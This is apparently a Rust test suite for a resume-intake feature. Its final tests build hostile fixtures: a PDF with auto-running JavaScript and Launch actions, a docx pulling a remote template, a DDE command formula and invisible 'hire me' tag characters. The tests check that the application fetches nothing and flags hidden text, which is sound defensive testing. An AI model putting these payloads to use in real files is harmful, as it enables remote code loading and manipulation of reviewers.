//! Files on their way to becoming leads: real resumes, odd files, hostile ones.

use std::{
    fs,
    io::{Cursor, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    time::Duration,
};

use serde_json::{Value, json};

use crate::support::{
    app::TestApp,
    root,
    served::{Served, call},
    wait_for,
};

/// Forty documents, two readers, a loaded machine.
const READING_MAX: Duration = Duration::from_secs(240);

fn drop_files(served: &Served, paths: &[PathBuf]) -> Value {
    let paths: Vec<_> = paths.iter().map(|path| path.to_string_lossy()).collect();
    call(served, "intake_add_paths", json!({ "paths": paths }))
}

/// Waits until every line was looked at, and returns the queue.
fn settled(served: &Served) -> Vec<Value> {
    wait_for("the inbox to be read", READING_MAX, || {
        let queue = call(served, "intake_queue", json!({}));
        let busy = queue["waiting"].as_i64()? + queue["reading"].as_i64()?;
        (busy == 0).then(|| queue["items"].as_array().cloned().unwrap_or_default())
    })
}

fn field<'a>(item: &'a Value, name: &str) -> Option<&'a str> {
    let fields = item["fields"].as_array()?;
    fields.iter().find(|found| found["field"] == name)?["value"].as_str()
}

fn digits(text: &str) -> String {
    text.chars().filter(char::is_ascii_digit).collect()
}

fn confirm(served: &Served, item: &Value, contact: Value) -> Value {
    let request = json!({
        "id": item["id"], "name": field(item, "name").unwrap_or("Somebody"),
        "email": field(item, "email"), "phone": field(item, "phone"),
        "title": null, "contactId": contact,
    });
    call(served, "intake_confirm", request)
}

/// The public resumes lie beside the checkout; a clone without them has its own fixtures.
fn resumes(folder: &str) -> Option<PathBuf> {
    let path = root().join("../shared/data/documents").join(folder);
    if !path.is_dir() {
        eprintln!("skipped: no {folder} beside the checkout");
        return None;
    }
    Some(path)
}

fn files_of(folder: &Path, endings: &[&str]) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).expect("a folder of files");
    let mut files: Vec<_> = entries.map(|entry| entry.expect("an entry").path()).collect();
    files.retain(|path| path.extension().is_some_and(|e| endings.contains(&&*e.to_string_lossy())));
    files.sort();
    files
}

#[test]
fn varied_resumes_say_who_they_are() {
    let Some(folder) = resumes("resumes-varied") else { return };
    let truth = fs::read_to_string(folder.join("truth.json")).expect("the truth");
    let truth: Value = serde_json::from_str(&truth).expect("JSON");
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let files = files_of(&folder, &["pdf", "docx", "txt"]);
    drop_files(&served, &files);
    let items = settled(&served);
    assert_eq!(items.len(), files.len());
    let mut wrong = Vec::new();
    let mut right = [0usize; 3];
    for item in &items {
        let name = item["fileName"].as_str().expect("a file name");
        let truth = &truth[name];
        let same = [
            field(item, "name") == truth["name"].as_str(),
            field(item, "email") == truth["email"].as_str(),
            field(item, "phone").map(digits) == truth["phone"].as_str().map(digits),
        ];
        for (count, same) in right.iter_mut().zip(same) {
            *count += usize::from(same);
        }
        if same != [true; 3] {
            let found = ["name", "email", "phone"].map(|name| field(item, name));
            wrong.push(format!(
                "{name}: {found:?} but {} {} {}",
                truth["name"], truth["email"], truth["phone"]
            ));
        }
    }
    let least = (files.len() * 95).div_ceil(100);
    eprintln!("right of {}: {right:?}", files.len());
    assert!(right.iter().all(|count| *count >= least), "{right:?} of {}: {wrong:#?}", files.len());
}

#[test]
fn one_person_in_nine_layouts_is_offered_as_one() {
    let Some(folder) = resumes("resumes") else { return };
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let files = files_of(&folder, &["pdf"]);
    drop_files(&served, &files);
    let items = settled(&served);
    assert_eq!(items.len(), 9);
    for item in &items {
        assert_eq!(field(item, "name"), Some("John Doe"), "{item}");
        assert_eq!(field(item, "phone"), None, "no phone is invented: {item}");
        assert!(field(item, "email").is_some_and(|email| email.contains("john")), "{item}");
    }
    let offered = items.iter().filter(|item| item["duplicates"] != json!([])).count();
    assert_eq!(offered, 8, "all but the first are offered as the same person");
    let confirmed = confirm(&served, items.last().expect("nine"), Value::Null);
    let again = drop_files(&served, &files[..1]);
    settled(&served);
    let detail = call(&served, "intake_get", json!({ "id": again["ids"][0] }));
    let duplicates = detail["duplicates"].as_array().expect("a list");
    assert!(duplicates.iter().any(|d| d["contactId"] == confirmed["contactId"]), "{detail}");
    let reasons = json!(duplicates).to_string();
    assert!(reasons.contains("same_file"), "the bytes are recognised: {reasons}");
}

#[test]
fn a_dropped_letter_becomes_a_worked_lead_and_back() {
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let text = "Zoë Canarybird\nzoe.canarybird@example.org\n+1 503 555 0148\n\n\
                Experience\nHarbor Partners, paralegal, 2019 to 2024\n";
    let file = app.file("letter.txt", text.as_bytes());
    drop_files(&served, &[file]);
    let items = settled(&served);
    let item = &items[0];
    assert_eq!(field(item, "name"), Some("Zoë Canarybird"), "{item}");
    assert_eq!(call(&served, "counts", json!({}))["leads"], 0, "a draft is not in the lists");
    let detail = call(&served, "intake_get", json!({ "id": item["id"] }));
    let found = &detail["fields"][0];
    let units: Vec<u16> = detail["text"].as_str().expect("a text").encode_utf16().collect();
    let (start, end) =
        (found["start"].as_u64().expect("a start"), found["end"].as_u64().expect("an end"));
    let marked = String::from_utf16_lossy(&units[start as usize..end as usize]);
    assert_eq!(marked, "Zoë Canarybird", "the place in the text is the place in the text");
    let confirmed = confirm(&served, item, Value::Null);
    let lead = call(&served, "lead_get", json!({ "id": confirmed["leadId"] }));
    assert_eq!(lead["contact"]["points"].as_array().map(Vec::len), Some(2));
    let copy = app.path("copy.txt");
    let request = json!({ "id": lead["documents"][0]["id"], "path": copy });
    call(&served, "document_save", request);
    assert_eq!(fs::read(&copy).expect("the copy"), text.as_bytes());
    assert_eq!(call(&served, "intake_queue", json!({}))["items"], json!([]));
    call(&served, "undo", json!({ "group": confirmed["group"] }));
    assert_eq!(call(&served, "counts", json!({}))["contacts"], 0);
    let items = settled(&served);
    assert_eq!(items.len(), 1, "the draft is back in the inbox");
    call(&served, "intake_reject", json!({ "ids": [items[0]["id"]], "reason": "Spam" }));
    assert_eq!(settled(&served).len(), 0);
    call(&served, "undo", json!({ "group": null }));
    assert_eq!(settled(&served).len(), 1);
    call(&served, "undo", json!({ "group": null }));
    assert_eq!(settled(&served).len(), 0, "the drop itself is undone");
}

#[test]
fn what_cannot_be_taken_in_is_refused_in_words() {
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let files = [
        app.file("empty.pdf", b""),
        app.file(
            "invoice.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00 this program",
        ),
        app.file("picture.docx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"),
        app.file("broken.pdf", b"%PDF-1.7\nnot much of a document\n%%EOF"),
        app.path("home/vanished.pdf"),
    ];
    drop_files(&served, &files);
    let items = settled(&served);
    assert_eq!(items.len(), files.len());
    for item in &items {
        let name = item["fileName"].as_str().unwrap_or_default();
        let problem = &item["problem"];
        assert!(problem["message"].as_str().is_some_and(|text| !text.is_empty()), "{name}: {item}");
        assert!(problem["kept"].as_str().is_some(), "{name} says what was kept: {item}");
        let expected = match name {
            "vanished.pdf" => "failed",
            "broken.pdf" => "review",
            _ => "refused",
        };
        assert_eq!(item["status"], expected, "{item}");
    }
    let refused: Vec<_> =
        items.iter().filter(|item| item["status"] == "refused").map(|item| &item["id"]).collect();
    call(&served, "intake_dismiss", json!({ "ids": refused }));
    assert_eq!(settled(&served).len(), 2);
}

const RESUME: &str = "Grace Sato\ngrace.sato@example.org | (971) 555-0163 | Beaverton, OR\n\
    linkedin.com/in/gracesato\n\nExperience\n\n\
    Senior Engineer, Cascade Drive Systems Inc.\nMarch 2022 - Present\n\
    Design Engineer, Tema Grid Works LLC\nMay 2018 - February 2022\n\n\
    Education\n\nM.S. Electrical Engineering, Oregon State University, 2018\n\n\
    Skills\n\nLTspice, EMC testing, Functional safety\n\nLanguages\n\nEnglish, Japanese\n";

#[test]
fn what_a_resume_says_becomes_facts_with_their_source() {
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    drop_files(&served, &[app.file("sato.txt", RESUME.as_bytes())]);
    let items = settled(&served);
    let all = |name: &str| -> Vec<(u64, String)> {
        let fields = items[0]["fields"].as_array().into_iter().flatten();
        let named = fields.filter(|found| found["field"] == name);
        named.map(|f| (f["entry"].as_u64().unwrap_or(0), f["value"].to_string())).collect()
    };
    assert_eq!(field(&items[0], "city"), Some("Beaverton, OR"));
    assert_eq!(all("employer").len(), 2, "{:#?}", items[0]["fields"]);
    assert_eq!(all("employer")[1], (1, "\"Tema Grid Works LLC\"".to_owned()));
    assert_eq!(all("job_title")[1], (1, "\"Design Engineer\"".to_owned()), "of the same entry");
    for found in items[0]["fields"].as_array().expect("fields") {
        let span = |end: &str| found[end].as_u64().and_then(|at| usize::try_from(at).ok());
        let place = RESUME.get(span("start").expect("a place")..span("end").expect("a place"));
        assert_eq!(place, found["value"].as_str(), "where it stands in the text");
    }
    let done = call(&served, "intake_accept_all", json!({ "over": 60 }));
    assert_eq!(done["left"], 0, "{:#?}", items[0]);
    let lead = call(&served, "lead_get", json!({ "id": items[0]["id"] }));
    let contact = &lead["contact"];
    assert_eq!(contact["company"], "Cascade Drive Systems Inc.");
    assert_eq!(contact["city"], "Beaverton, OR");
    let facts = contact["facts"].as_array().expect("facts");
    let job = facts.iter().find(|fact| fact["value"] == "Tema Grid Works LLC");
    let job = job.expect("an earlier job");
    assert_eq!(
        (&job["detail"], &job["until"]),
        (&json!("Design Engineer"), &json!("February 2022"))
    );
    assert_eq!(job["documentName"], "sato.txt", "a fact says where it is from");
    assert_eq!(facts.iter().filter(|fact| fact["kind"] == "skill").count(), 3);
    call(&served, "undo", json!({ "group": done["group"] }));
    assert_eq!(settled(&served)[0]["status"], "review", "one undo puts the draft back");
}

#[test]
fn characters_that_nobody_sees_are_reported_and_left_out() {
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let tags: String =
        "hire me".bytes().filter_map(|b| char::from_u32(0xe_0000 + u32::from(b))).collect();
    let text = RESUME.replace("Skills\n", &format!("Skills{tags}\n"));
    drop_files(&served, &[app.file("sato.txt", text.as_bytes())]);
    let items = settled(&served);
    let detail = call(&served, "intake_get", json!({ "id": items[0]["id"] }));
    assert_eq!(detail["hidden"][0]["reason"], "tag_characters", "{}", detail["hidden"]);
    assert_eq!(detail["text"].as_str().map(|text| text.contains('\u{e0068}')), Some(false));
    let done = call(&served, "intake_accept_all", json!({ "over": 50 }));
    assert_eq!(done["left"], 1, "what hides something is looked at by a person");
}

#[test]
fn a_locked_file_is_kept_and_opens_with_its_password() {
    let Some(folder) = resumes("office") else { return };
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    drop_files(&served, &[folder.join("testWORD_protected_passtika.docx")]);
    let items = settled(&served);
    assert_eq!((&items[0]["grade"], &items[0]["status"]), (&json!("locked"), &json!("review")));
    let unlock = |password: &str| {
        let request = json!({ "id": items[0]["documentId"], "password": password });
        served.call("document_unlock", &request)
    };
    let wrong = unlock("guess").expect_err("not the password");
    assert_eq!(wrong["params"]["reason"], "wrong_password", "{wrong}");
    let text = unlock("tika").expect("the password")["text"].clone();
    assert!(text.as_str().is_some_and(|text| text.contains("encrypted Word")), "{text}");
    let grade = settled(&served)[0]["grade"].clone();
    assert_ne!(grade, "locked", "it stays readable");
}

/// A PDF that would run a script, start a program and open a page as soon as it is looked at.
fn hostile_pdf(address: &str) -> Vec<u8> {
    let objects = [
        format!(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript \
             /JS (app.launchURL\\('{address}/js'\\);) >> \
             /AA << /WC << /S /Launch /F ({address}/launch) >> >> >>"
        ),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R \
             /Resources << /Font << /F1 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link \
             /Rect [0 0 612 792] /A << /S /URI /URI ({address}/link) >> >>] >>"
        ),
        {
            let text = "BT /F1 14 Tf 72 720 Td (Mallory Hostile mallory@example.org) Tj ET";
            format!("<< /Length {} >>\nstream\n{text}\nendstream", text.len())
        },
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut pdf = "%PDF-1.7\n".to_owned();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(&objects) {
        places.push(pdf.len());
        pdf += &format!("{number} 0 obj\n{object}\nendobj\n");
    }
    let table = pdf.len();
    pdf += &format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    places.iter().for_each(|place| pdf += &format!("{place:010} 00000 n \n"));
    pdf += &format!("trailer << /Size {} /Root 1 0 R >>\n", objects.len() + 1);
    pdf += &format!("startxref\n{table}\n%%EOF\n");
    pdf.into_bytes()
}

/// A docx whose template and picture lie elsewhere.
fn hostile_docx(address: &str) -> Vec<u8> {
    const SCHEMA: &str = "http://schemas.openxmlformats.org";
    let relation = |name: &str, target: &str| {
        format!(
            "<Relationships xmlns=\"{SCHEMA}/package/2006/relationships\"><Relationship Id=\"r1\" \
             Type=\"{SCHEMA}/officeDocument/2006/relationships/{name}\" {target}/></Relationships>"
        )
    };
    let away = format!("Target=\"{address}/evil.dotm\" TargetMode=\"External\"");
    let parts = [
        (
            "[Content_Types].xml",
            format!(
                "<Types xmlns=\"{SCHEMA}/package/2006/content-types\"><Default Extension=\"rels\" \
                 ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
                 <Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.\
                 openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"
            ),
        ),
        ("_rels/.rels", relation("officeDocument", "Target=\"word/document.xml\"")),
        ("word/_rels/document.xml.rels", relation("image", &away)),
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", &away)),
        (
            "word/document.xml",
            format!(
                "<w:document xmlns:w=\"{SCHEMA}/wordprocessingml/2006/main\"><w:body><w:p><w:r>\
                 <w:t>Trudy Hostile</w:t></w:r></w:p><w:p><w:r><w:t>trudy@example.org</w:t></w:r>\
                 </w:p><w:p><w:r><w:t>=HYPERLINK(\u{27}{address}\u{27})</w:t></w:r></w:p></w:body>\
                 </w:document>"
            ),
        ),
    ];
    let mut docx = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in parts {
        docx.start_file(name, zip::write::SimpleFileOptions::default()).expect("a part");
        docx.write_all(text.as_bytes()).expect("its text");
    }
    docx.finish().expect("a package").into_inner()
}

#[test]
fn hostile_files_become_drafts_and_nothing_is_fetched() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    listener.set_nonblocking(true).expect("a listener that is only looked at");
    let address = format!("http://{}", listener.local_addr().expect("its address"));
    let app = TestApp::with_workspace();
    let served = app.serve().enter();
    let long = "A".repeat(1_000_000);
    let files = [
        app.file("open.pdf", &hostile_pdf(&address)),
        app.file("template.docx", &hostile_docx(&address)),
        app.file("=cmd.txt", b"=cmd|' /C calc'!A0\ncalc@example.org\n+1 212 555 0199\n"),
        app.file("rtl.txt", "\u{202e}Eve Hostile\neve@example.org\n".as_bytes()),
        app.file("zero.txt", "M\u{200b}a\u{200b}x Doe\nmax@example.org\n".as_bytes()),
        app.file("long.txt", format!("{long}\nlong@example.org\n").as_bytes()),
    ];
    drop_files(&served, &files);
    let items = settled(&served);
    assert_eq!(items.len(), files.len());
    for item in &items {
        assert_eq!(item["status"], "review", "{}: {}", item["fileName"], item["problem"]);
        let name = field(item, "name").unwrap_or_default();
        assert!(name.len() < 200, "a name of a megabyte is none");
        let unseen = |c: char| c.is_control() || matches!(c, '\u{200b}'..='\u{202e}');
        assert!(!name.contains(unseen), "{}: {name:?}", item["fileName"]);
        confirm(&served, item, Value::Null);
    }
    let of = |file: &str| items.iter().find(|item| item["fileName"] == file).expect("its line");
    assert_eq!(field(of("open.pdf"), "email"), Some("mallory@example.org"));
    assert_eq!(field(of("template.docx"), "email"), Some("trudy@example.org"));
    let knocked = listener.accept().map(|(_, from)| from);
    assert!(knocked.is_err(), "somebody came: {knocked:?}");
}
